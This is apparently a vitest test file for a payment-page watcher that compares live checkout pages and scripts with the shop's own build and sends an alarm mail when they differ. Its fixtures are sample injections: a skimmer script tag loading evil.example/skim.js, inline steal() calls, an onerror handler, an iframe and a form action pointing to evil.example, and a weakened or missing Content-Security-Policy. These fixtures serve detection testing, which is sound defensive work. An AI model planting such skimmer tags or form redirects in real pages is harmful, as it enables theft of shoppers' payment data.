import { getRequestListener } from '@hono/node-server'
import { expect, test } from 'vitest'
import { createTestApp } from '../../testing/test-app.ts'
import { testLog } from '../../testing/test-log.ts'
import { watchPaymentPages } from './watch-payment-pages.ts'

// Once a shop is served, answers are the ones Hono makes for Node, which are not quite the web's.
getRequestListener(() => new Response())

const POLICY = "default-src 'self'; script-src 'self'"
const PAGE = `<html><link rel="modulepreload" href="/assets/pay.js"><script>start()</script>
<script type="application/ld+json">{"price": 1}</script><form method="post" action="/x"></form></html>`
const SCRIPT = 'export const pay = 1'

const html = (text: string, policy = POLICY, status = 200) =>
  new Response(text, { status, headers: { 'Content-Security-Policy': policy, 'X-Frame-Options': 'DENY' } })

/** What the shop makes, and what became of it on the way. */
async function watch(arrives: (path: string, look: number) => Response | undefined) {
  const { deps } = await createTestApp({ PUBLIC_URL: 'https://shop.example' })
  const made = (path: string): Response => (path.endsWith('.js') ? new Response(SCRIPT) : html(PAGE))
  const looks = new Map<string, number>()
  const live = async (url: string) => {
    const path = url.replace('https://shop.example', '')
    looks.set(path, (looks.get(path) ?? 0) + 1)
    return arrives(path, looks.get(path) ?? 0) ?? made(path)
  }
  const pages = { own: (request: Request) => made(new URL(request.url).pathname), live, lookAgainMs: 1 }
  const counts = await watchPaymentPages(deps, pages, new AbortController().signal)
  const mails = await deps.db.selectFrom('mails').select(['recipient', 'data']).where('type', '=', 'alarm').execute()
  return { counts, mails, looks }
}

test('finds nothing when the pages arrive as they were made', async () => {
  const { counts, mails, looks } = await watch(() => undefined)
  expect([counts, mails]).toEqual([{ pages: 2, differences: 0 }, []])
  expect([...looks.keys()]).toEqual(['/checkout', '/assets/pay.js', '/pay/nothing'])
})

const ALTERED = 'a script with other bytes'
const skimmer = '<script src="https://evil.example/skim.js"></script>'
test.each<[string, string, (path: string) => Response | undefined]>([
  ['a script from elsewhere', 'evil.example/skim.js', () => html(PAGE + skimmer)],
  ['a script in the page itself', 'inline script', () => html(`${PAGE}<script>steal()</script>`)],
  ['one of ours with something added', 'inline script', () => html(PAGE.replace('start()', 'start();steal()'))],
  ['an event handler', 'event handler', () => html(`${PAGE}<img src=x onerror=steal()>`)],
  ['a frame', 'iframe https://evil.example/', () => html(`${PAGE}<iframe src="https://evil.example/"></iframe>`)],
  [
    'a form that leads elsewhere',
    'form https://evil.example/',
    () => html(PAGE.replace('/x', 'https://evil.example/')),
  ],
  ['another policy', 'content-security-policy', () => html(PAGE, `${POLICY} https://evil.example`)],
  ['no policy', 'content-security-policy', () => html(PAGE, '')],
  ['another page', '503', () => html('Away', POLICY, 503)],
  [ALTERED, 'is not the one we made', () => new Response('steal()')],
])('tells the house by mail and in the log of %s', async (what, message, arrives) => {
  testLog.expectErrors()
  const { counts, mails } = await watch((path) =>
    path.endsWith('.js') === (what === ALTERED) ? arrives(path) : undefined,
  )
  expect(counts['differences']).toBeGreaterThan(0)
  expect(mails).toHaveLength(1)
  expect(mails[0]?.recipient).toBe('support@atelier.example')
  expect(JSON.stringify(mails[0]?.data)).toContain(message)
  expect(testLog.lines().filter(({ level }) => level === 'error')).toHaveLength(1)
})

test('what is gone at the next look was a new version on its way', async () => {
  const { counts, mails } = await watch((path, look) =>
    path === '/checkout' && look < 3 ? html(PAGE.replace('pay.js', 'pay-2.js')) : undefined,
  )
  expect([counts, mails]).toEqual([{ pages: 2, differences: 0 }, []])
})

test('a page that cannot be reached is a failed run, which is tried again', async () => {
  const unreachable = watch(() => {
    throw new TypeError('fetch failed')
  })
  await expect(unreachable).rejects.toThrow('fetch failed')
})
